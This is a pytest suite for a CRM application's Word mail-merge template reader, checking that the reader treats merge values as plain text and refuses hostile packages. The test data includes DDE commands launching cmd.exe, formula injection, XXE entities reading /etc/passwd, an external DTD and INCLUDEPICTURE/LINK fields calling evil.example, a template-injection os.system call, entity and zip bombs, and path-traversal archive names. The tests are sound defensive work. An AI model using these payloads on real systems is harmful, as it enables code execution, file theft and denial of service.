"""Hostile and broken templates, and values that want to be more than text."""

from __future__ import annotations

import io
import os
import socket
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crm_desktop.exchange.letters import template
from crm_desktop.exchange.letters.compiling import compiled
from crm_desktop.exchange.letters.problems import TemplateProblem
from crm_desktop.exchange.letters.rendering import Letter, Surroundings
from tests.exchange.letters.word import NAMESPACES, NOW, document, letter, merged, paragraph, part, text_of

HOSTILE = [
    "Müller & Söhne <GmbH>", "]]>", "{{ name }}", "{MERGEFIELD Geheim}", '"quoted" \'single\'', "&amp;",
    "\u202eabc\u202c",
    "😀 Zoë 你好", "<w:p/>", "\\* Upper", "${7*7}", "=cmd|' /C calc'!A0", "a\u0301", "«Name»", "%s {0}", "\ud7ff\ue000",
]  # fmt: skip


@pytest.mark.parametrize("value", HOSTILE)
def test_values_are_text(tmp_path, value):
    record = {"x": value, "Geheim": "verraten"}
    assert letter(tmp_path, "{MERGEFIELD x}", record) == value
    assert letter(tmp_path, '{IF {MERGEFIELD x} <> "" "{MERGEFIELD x}" "{MERGEFIELD Geheim}"}', record) == value


def test_lines_and_tabs_of_values(tmp_path):
    assert letter(tmp_path, "{MERGEFIELD x}", {"x": "a\nb\r\nc\td\x0be\u2028f"}) == "a\nb\nc\td\ne\nf"
    assert letter(tmp_path, "{MERGEFIELD x}", {"x": "a\x00\x01\x1fb\ud800\ufffec"}) == "abc"


@pytest.fixture(scope="module")
def field(tmp_path_factory):
    path = document(
        tmp_path_factory.mktemp("safety") / "t.docx",
        paragraph('[{MERGEFIELD x}] {IF {MERGEFIELD x} = "a" "{MERGEFIELD x}" ""}'),
    )
    return compiled(path)["body"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=40))
def test_every_value_arrives_whole(field, value):
    from xml.etree import ElementTree

    shared = Surroundings([{"x": value}], [0], {"x": "x"}, NOW)
    whole = ElementTree.fromstring(f"<w:body {NAMESPACES}>{Letter(shared, 0, 0, 0).xml(field)}</w:body>")
    shown = text_of(whole)
    wanted = "".join("\n" if c in "\r\x0b\x0c\x85\u2028\u2029" else c for c in value.replace("\r\n", "\n"))
    wanted = "".join(
        c
        for c in wanted
        if c in "\n\t" or (ord(c) >= 32 and not 0xD800 <= ord(c) < 0xE000 and ord(c) < 0xFFFE) or ord(c) > 0xFFFF
    )
    assert shown.startswith(f"[{wanted}]" if wanted else "[]")


def refusal(path: Path) -> TemplateProblem:
    with pytest.raises(TemplateProblem) as found:
        template.read(path)
    assert found.value.safe
    assert found.value.remedy
    return found.value


def packed(path: Path, **parts: bytes | str) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.docx", b"", "empty"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "WordDocument".encode("utf-16-le"), "old_word"),
        (
            "a.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
            "password",
        ),
        ("a.rtf", b"{\\rtf1 hallo}", "old_word"),
        ("a.docx", b"Hallo", "no_word"),
        ("a.docx", b"PK\x03\x04kaputt", "damaged"),
        ("a.docx", b"%PDF-1.7", "no_word"),
    ],
)
def test_what_is_no_template_is_said(tmp_path, name, data, code):
    path = tmp_path / name
    path.write_bytes(data)
    assert refusal(path).code == code


def test_missing_folder_spreadsheet_and_open_document(tmp_path):
    assert refusal(tmp_path / "none.docx").code == "missing"
    assert refusal(tmp_path).code == "folder"
    sheet = packed(tmp_path / "x.xlsx", **{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"})
    assert refusal(sheet).code == "no_word"
    odt = packed(tmp_path / "x.odt", mimetype="application/vnd.oasis.opendocument.text", **{"content.xml": "<x/>"})
    assert refusal(odt).code == "old_word"


def test_a_document_template_becomes_a_document(tmp_path):
    path = document(tmp_path / "t.dotx", paragraph("{MERGEFIELD x}"))
    with zipfile.ZipFile(path) as package:
        members = {name: package.read(name) for name in package.namelist()}
    types = members["[Content_Types].xml"].replace(b"document.main", b"template.main")
    out = merged(packed(path, **(members | {"[Content_Types].xml": types})), [{"x": "A"}])
    with zipfile.ZipFile(out) as package:
        assert b"template.main" not in package.read("[Content_Types].xml")


def test_macros_are_refused(tmp_path):
    assert refusal(document(tmp_path / "m.docm", paragraph("x"), raw={"word/vbaProject.bin": b"x"})).code == "macros"


def test_cut_off_and_changed_bytes_never_crash(tmp_path):
    whole = document(tmp_path / "t.docx", paragraph("{MERGEFIELD x}"), header=paragraph("{MERGEFIELD y}")).read_bytes()
    for size in range(10, len(whole), 97):
        path = tmp_path / "cut.docx"
        path.write_bytes(whole[:size])
        assert refusal(path).code in ("damaged", "no_word")
        if size > 400:
            break


@pytest.mark.parametrize(
    "body",
    [
        b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ],
)
def test_document_types_are_refused(tmp_path, body):
    good = document(tmp_path / "t.docx", paragraph("x"))
    with zipfile.ZipFile(good) as package:
        members = {name: package.read(name) for name in package.namelist()}
    for name in ("word/document.xml", "word/settings.xml"):
        assert refusal(packed(tmp_path / "bad.docx", **(members | {name: body + members[name]}))).code == "dtd"


def test_a_bomb_is_refused_at_once(tmp_path):
    path = document(tmp_path / "b.docx", paragraph("x"), raw={"word/media/x.xml": b"\0" * 60_000_000})
    assert refusal(path).code == "bomb"


def test_absurd_nesting_is_refused(tmp_path):
    deep = "<w:tbl><w:tr><w:tc>" * 400 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 400
    assert refusal(document(tmp_path / "d.docx", deep)).code == "too_deep"
    fields = '{IF 1 = 1 "' * 300 + "x" + '" ""}' * 300
    path = document(tmp_path / "f.docx", paragraph(fields))
    assert refusal(path).code in ("too_deep", "crashed", "damaged")


PAYLOADS = [
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "DDE cmd x", 'INCLUDETEXT "file:///etc/passwd"',
    'INCLUDEPICTURE "http://evil.example/x.png"', 'LINK Word.Document "\\\\\\\\evil.example\\\\x"', 'DATABASE \\d "x"',
    'IMPORT "x"', "{{ cycler.__init__.__globals__.os.system('touch x') }}", "= __import__('os')", "= 9^9^9^9^9",
    "= 1/0", "= SUM(", 'MERGEFIELD x \\# "{0.__class__}"', 'MERGEFIELD x \\@ "%n%n"', "IF", "IF = = =", "SET", "REF",
    'QUOTE "{0}"', "MERGEFIELD", "NEXTIF", "SKIPIF 1", "ADDRESSBLOCK \\f", "GREETINGLINE \\l x",
    "MERGEFIELD x \\* CardText", "EMBED Package", "= 1;2",
    'IF "a" = "((((" "x" "y"', 'IF "aaaa" = "a*a*a*a*a*b" "x" "y"',
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_template_is_executed_or_fetched(tmp_path, monkeypatch, payload):
    def refuse(*_):
        raise AssertionError("network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    body = paragraph(f"a{{{payload}}}b")
    before = set(os.listdir(tmp_path))
    path = document(
        tmp_path / "t.docx", body + f"<w:tbl><w:tr><w:tc>{body}</w:tc></w:tr></w:tbl><w:p/>", header=body, footer=body
    )
    out = merged(path, [{"x": "1"}])
    codes = "".join(node.text or "" for node in part(out).iter() if node.tag.endswith("instrText"))
    assert not any(word in codes for word in ("DDE", "INCLUDE", "LINK", "DATABASE", "IMPORT"))
    assert (
        set(os.listdir(tmp_path)) - before
        == {"t.docx", "letters.docx", *(["home"] if (tmp_path / "home").exists() else [])} - before
    )


def test_names_in_the_package_cannot_leave_it(tmp_path):
    path = document(
        tmp_path / "t.docx", paragraph("x"), raw={"../../evil.txt": b"x", "/abs.txt": b"y", "C:/z.txt": b"z"}
    )
    with zipfile.ZipFile(merged(path, [{}])) as package:
        assert not [name for name in package.namelist() if ".." in name or name.startswith("/") or ":" in name]


def test_a_template_of_300_pages(tmp_path):
    text = paragraph("{MERGEFIELD x} " + "Wort " * 60) * 12
    path = document(tmp_path / "t.docx", (text + '<w:p><w:r><w:br w:type="page"/></w:r></w:p>') * 300)
    out = merged(path, [{"x": "A"}, {"x": "B"}])
    assert out.stat().st_size < 5_000_000
    with zipfile.ZipFile(io.BytesIO(out.read_bytes())) as package:
        assert package.read("word/document.xml").count(b">A</w:t>") == 3600


def test_pictures_that_are_not_there_are_named(tmp_path):
    path = document(tmp_path / "t.docx", paragraph("x"))
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    more = f'<Relationship Id="p1" Type="{kind}" Target="media/logo.png"/>'
    more += f'<Relationship Id="p2" Type="{kind}" Target="https://example.com/a/far.png" TargetMode="External"/>'
    rels = parts["word/_rels/document.xml.rels"].decode().replace("</Relationships>", f"{more}</Relationships>")
    parts["word/_rels/document.xml.rels"] = rels.encode()
    with zipfile.ZipFile(path, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    said = " ".join(template.read(path).warnings)
    assert "logo.png" in said
    assert "far.png" in said
